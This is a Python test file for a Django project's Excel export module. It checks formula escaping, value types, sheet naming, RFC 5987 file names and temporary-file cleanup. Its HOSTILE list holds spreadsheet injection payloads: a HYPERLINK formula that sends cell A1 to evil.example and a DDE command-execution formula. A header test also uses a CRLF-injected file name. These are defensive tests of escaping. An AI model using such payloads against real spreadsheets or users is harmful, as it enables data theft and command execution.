"""The one Excel writer (core.excel): text never becomes a formula, Chinese file names reach the browser,
several sheets with names Excel accepts, values read back as written, streamed books leave no file behind;
and no app writes a workbook by itself."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.http import FileResponse
from django.utils import timezone
from openpyxl import load_workbook

from linli.core.excel import Workbook, download, filename_header, sheet_title

HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "=cmd|'/C calc'!A0"]


def _read(body: bytes):
    return load_workbook(io.BytesIO(body))


@pytest.mark.parametrize("streaming", [False, True])
def test_text_that_starts_like_a_formula_stays_text_and_reads_back_unchanged(streaming):
    book = Workbook(streaming=streaming)
    book.sheet("意见", ["内容"]).rows([v] for v in [*HOSTILE, "二楼漏水", "13812345678"])
    cells = [row[0] for row in _read(book.getvalue()).active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*HOSTILE, "二楼漏水", "13812345678"]
    assert {c.data_type for c in cells} == {"s"}  # no formula anywhere
    assert [c.quotePrefix for c in cells] == [True] * len(HOSTILE) + [False, False]  # Excel's leading apostrophe


def test_values_read_back_as_their_kind():
    aware = timezone.make_aware(dt.datetime(2026, 12, 7, 9, 30))
    book = Workbook()
    sheet = book.sheet("值", ["整数", "小数", "金额", "日期", "时间", "空", "空串", "比例"], formats={7: "0.00%"})
    sheet.row([3, 2.5, Decimal("12.50"), dt.date(2026, 12, 1), aware, None, "", 0.125])
    ws = _read(book.getvalue()).active
    row = [c.value for c in ws[2]]
    assert row[:3] == [3, 2.5, 12.5]
    assert row[3] == dt.datetime(2026, 12, 1) and ws["D2"].number_format == "yyyy-mm-dd"
    assert row[4] == timezone.localtime(aware).replace(tzinfo=None)  # local time, as the pages show it
    assert row[5] is None and row[6] is None
    assert row[7] == 0.125 and ws["H2"].number_format == "0.00%" and ws["H1"].number_format == "General"


def test_several_sheets_with_names_excel_accepts():
    book = Workbook()
    for title in ["按月", "按月", "网格/社区[一]", "很" * 40, "'引号'"]:
        book.sheet(title, ["列"]).row(["值"])
    names = _read(book.getvalue()).sheetnames
    assert names == ["按月", "按月 2", "网格_社区_一_", "很" * 31, "引号"]
    assert sheet_title("按月", {"按月", "按月 2"}) == "按月 3"


def test_the_header_is_styled_and_frozen_and_title_rows_come_first():
    book = Workbook()
    sheet = book.sheet("报表", widths=[22, 14])
    sheet.row(["阳光社区 2026-11 月度报表"], style="title")
    sheet.skip()
    sheet.header(["社区", "受理"], styles={1: "required"})
    sheet.row(["阳光社区", 5])
    ws = _read(book.getvalue()).active
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["阳光社区 2026-11 月度报表", None], [None, None], ["社区", "受理"], ["阳光社区", 5]]
    assert ws["A1"].font.b and ws["A1"].font.sz == 14
    assert ws["A3"].font.b and ws["A3"].fill.fgColor.rgb.endswith("1F6F5C")
    assert ws["B3"].fill.fgColor.rgb.endswith("B03A2E")
    assert ws.freeze_panes == "A4" and ws.column_dimensions["A"].width == pytest.approx(22, abs=1)
    with pytest.raises(ValueError):
        sheet.row(["x"], at=0)  # rows are written in order (the streaming mode needs it)


def test_a_chinese_file_name_is_sent_as_rfc_5987():
    response = download(b"PK", "矛盾纠纷排查化解台账.xlsx")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E7%9F%9B%E7%9B%BE%E7%BA%A0%E7%BA%B7%E6%8E%92%E6%9F%A5%E5%8C%96%E8%A7%A3"
        "%E5%8F%B0%E8%B4%A6.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "private, no-store"
    assert filename_header("kpi-202601-202612.xlsx") == 'attachment; filename="kpi-202601-202612.xlsx"'
    assert filename_header("a\r\nSet-Cookie: x/y.pdf", inline=True) == 'inline; filename="a__Set-Cookie: x_y.pdf"'


def test_a_streamed_book_is_sent_from_disk_and_removed(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with Workbook(streaming=True) as book:
        book.sheet("台账", ["序号"]).rows([n] for n in range(1, 5001))
        response = book.response("台账.xlsx")
    assert isinstance(response, FileResponse) and list(tmp_path.iterdir()) == []  # open, unlinked
    body = b"".join(response.streaming_content)
    response.file_to_stream.close()  # (response.close() would signal request_finished)
    rows = list(_read(body).active.iter_rows(values_only=True))
    assert len(rows) == 5001 and rows[-1] == (5000,)
    assert "filename*=utf-8''%E5%8F%B0%E8%B4%A6.xlsx" in response["Content-Disposition"]


def test_a_failed_export_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(RuntimeError), Workbook(streaming=True) as book:
        book.sheet("台账", ["序号"]).row([1])
        raise RuntimeError("the query failed")
    assert list(tmp_path.iterdir()) == []


WRITES = re.compile(r"^\s*(import xlsxwriter|from xlsxwriter\b|from openpyxl[\w.]* import [^\n]*\bWorkbook\b)|"
                    r"openpyxl\.Workbook\(|xlsxwriter\.Workbook\(", re.M)


def test_no_app_writes_a_workbook_by_itself():
    """Every .xlsx is written through core.excel; openpyxl stays the reader (load_workbook)."""
    root = Path(__file__).resolve().parents[2]
    own = sorted(
        str(path.relative_to(root)) for path in root.glob("*/**/*.py")
        if "tests" not in path.parts and path.relative_to(root).parts[:2] not in {("core", "excel.py"), ("core", "testing")}
        and WRITES.search(path.read_text(encoding="utf-8"))
    )
    assert own == []
    assert WRITES.search("    from openpyxl import Workbook\n") and WRITES.search("import xlsxwriter\n")
    assert not WRITES.search("    from openpyxl import load_workbook\n")
